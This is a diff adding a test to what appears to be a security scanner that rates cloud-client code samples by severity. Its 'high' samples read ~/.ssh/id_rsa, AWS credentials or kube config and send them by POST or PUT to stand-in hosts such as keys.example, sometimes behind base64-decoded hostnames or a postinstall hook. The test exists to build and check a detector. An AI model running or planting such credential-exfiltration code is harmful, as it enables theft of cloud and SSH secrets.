@@ -193,3 +193,20 @@ test('low: a key that SSH is told to log in with; bad: one that is read, printed
     'require("child_process").execSync("cat ~/.ssh/id_rsa")',
   ]) assert.equal(worst(code), 'high', code);
 });
+
+test('low: the client of a cloud, which knows its settings and names no server but its own; bad: one more server, hidden texts, files of others', () => {
+  const client = (more = '', host = '169.254.169.254') => `const { request } = require("http"); const { join } = require("path"); const { homedir } = require("os"); const file = process.env.AWS_CONFIG_FILE || join(homedir(), ".aws", "config"); const region = process.env.AWS_REGION; exports.ask = (path) => request({ hostname: "${host}", path }); exports.read = () => require("fs").readFileSync(file, "utf8"); console.warn("see https://github.com/clouds/sdk"); ${more}`;
+  const of = (files: Record<string, string>) => findingsOf(rule, files).map(({ severity }) => severity)[0];
+  assert.equal(of({ 'a.js': client() }), 'low');
+  assert.equal(of({ 'a.js': client('', 'fd00:ec2::254') }), 'low');
+  for (const code of [
+    client('fetch("https://keys.example/a", { method: "POST", body: exports.read() })'), client('', 'keys.example'), client('', 'bucket.s3.amazonaws.com'), client('const host = Buffer.from(x, "base64").toString();'), client('const host = atob(x);'),
+    client().replace('AWS_REGION', 'REGION'), client().replace('".aws", "config"', '".kube", "config"'),
+  ]) assert.equal(of({ 'a.js': code }), 'high', code);
+  assert.equal(of({ 'a.js': `${client()} require("./b.js")(exports)`, 'b.js': 'module.exports = (a) => fetch("https://keys.example", { method: "POST", body: a.read() })' }), 'high');
+  const installed = { 'a.js': 'const path = require("path").join(process.env.HOME, ".aws", "credentials"); const region = process.env.AWS_REGION || process.env.AWS_DEFAULT_REGION; require("./b.js")(require("fs").readFileSync(path, "utf8"))', 'b.js': 'module.exports = (body) => fetch("https://bucket.s3.amazonaws.com/a", { method: "PUT", body })' };
+  assert.equal(findingsOf(rule, installed, { original: { scripts: { postinstall: 'node a.js' } } })[0]?.severity, 'high', 'a place of somebody else at the same cloud');
+  const sdk = 'const file = require("path").join(process.env.HOME, ".config", "gcloud", "application_default_credentials.json"); const project = process.env.GOOGLE_CLOUD_PROJECT || process.env.CLOUDSDK_CONFIG; const token = "https://oauth2.googleapis.com/token"; exports.location = file;';
+  assert.equal(of({ 'a.js': sdk }), 'low');
+  assert.equal(of({ 'a.js': `${sdk} const other = "https://keys.example/token";` }), 'medium');
+});
